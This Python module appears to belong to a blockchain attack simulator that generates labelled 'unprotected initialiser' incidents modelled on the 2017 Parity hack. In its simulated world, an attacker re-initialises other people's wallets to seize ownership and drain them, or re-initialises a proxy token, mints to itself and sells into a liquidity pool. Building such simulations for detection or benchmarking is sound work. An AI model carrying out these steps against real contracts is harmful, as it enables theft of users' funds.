"""Unprotected initialisers: become owner of a wallet (Parity 2017) or minter of a token, then cash in."""

from __future__ import annotations

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.engine import Account
from pipelines.simulation.world import DEADLINE, ETH, Part, Place, Session, Token, World, step


def unprotected_init(world: World, incident: Incident) -> Session:
    """Initialise somebody else's contract again and use the new powers."""
    wallets = [p for p in world.places.get("wallet", []) if world.ether(p.address) > ETH // 2]
    who = yield from attacker(world, incident, 0.5)
    if wallets and world.chance(0.6):
        yield from _take_wallets(world, incident, who, wallets)
    else:
        yield from _mint(world, incident, who)
    incident.finish()
    yield from leave(world, incident, who)


def _take_wallets(world: World, incident: Incident, who: Account, wallets: list[Place]) -> Part:
    incident.variant.append("wallet")
    count = min(len(wallets), int(world.rng.integers(1, 4)))
    chosen = [wallets[i] for i in sorted(world.rng.choice(len(wallets), count, replace=False))]
    draw = world.rng.random()
    if draw < 0.5:
        for place in chosen:
            call = ("initWallet", [who.address], 1)
            yield incident.call("exploit", who, "wallet", place.address, *call)
            pay = ("submitTransaction", who.address, world.ether(place.address), b"")
            yield incident.call("exploit", who, "wallet", place.address, *pay)
        return
    tool = None
    if draw < 0.8:
        tool = yield from runner(world, incident, who)
    incident.variant.append("script" if tool is None else "executor")
    if tool is None:
        yield from run_script(world, incident, who, _take_over(world, who, chosen, SELF))
    else:
        yield from run_steps(world, incident, who, tool, _take_over(world, who, chosen, tool.address))


def _take_over(world: World, who: Account, wallets: list[Place], me: bytes) -> list[Step]:
    """Return the steps that make `me` the only owner of the wallets and empty them."""
    steps = []
    for place in wallets:
        steps.append(step("wallet", place.address, "initWallet", [me], 1))
        pay = ("submitTransaction", who.address, world.ether(place.address), b"")
        steps.append(step("wallet", place.address, *pay))
    return steps


def _mint(world: World, incident: Incident, who: Account) -> Part:
    """Make oneself the minter, mint, sell for whatever the pool holds."""
    incident.variant.append("mint")
    options = [
        t for t in world.tokens if t.kind == "proxy_token" and world.reserves(world.weth, t)[0] > 3 * ETH
    ]
    token: Token = world.pick(options)
    pool = world.reserves(world.weth, token)[1]
    amount = int(pool * (0.2 + 3 * world.rng.random()))
    title = world.view("proxy_token", token.address, "name")
    symbol = world.view("proxy_token", token.address, "symbol")
    cap = world.view("proxy_token", token.address, "totalSupply") + amount * int(world.rng.integers(1, 40))
    router = world.the("router").address
    path = [token.address, world.weth.address]
    if world.chance(0.5):
        init = ("initialize", title, symbol, who.address, cap)
        yield incident.call("exploit", who, "proxy_token", token.address, *init)
        yield incident.call("exploit", who, "proxy_token", token.address, "mint", who.address, amount)
        yield incident.call("prep", who, "token", token.address, "approve", router, amount)
        call = ("swapExactTokensForETH", amount, 1, path, who.address, DEADLINE)
        yield incident.call("exploit", who, "router", router, *call)
        return
    tool = yield from runner(world, incident, who)
    incident.variant.append("executor")
    me = tool.address
    steps: list[Step] = [
        step("proxy_token", token.address, "initialize", title, symbol, me, cap),
        step("proxy_token", token.address, "mint", me, amount),
        step("token", token.address, "approve", router, amount),
        step("router", router, "swapExactTokensForTokens", amount, 1, path, me, DEADLINE),
    ]
    yield from run_steps(world, incident, who, tool, steps)
    yield from home(world, incident, who, tool)


FAMILIES = (
    Family(
        name="unprotected_init",
        tier="structural",
        split="dev",
        modelled_on="Parity (2017)",
        about="Initialise somebody else's wallet or token again, then empty or mint it.",
        run=unprotected_init,
    ),
)
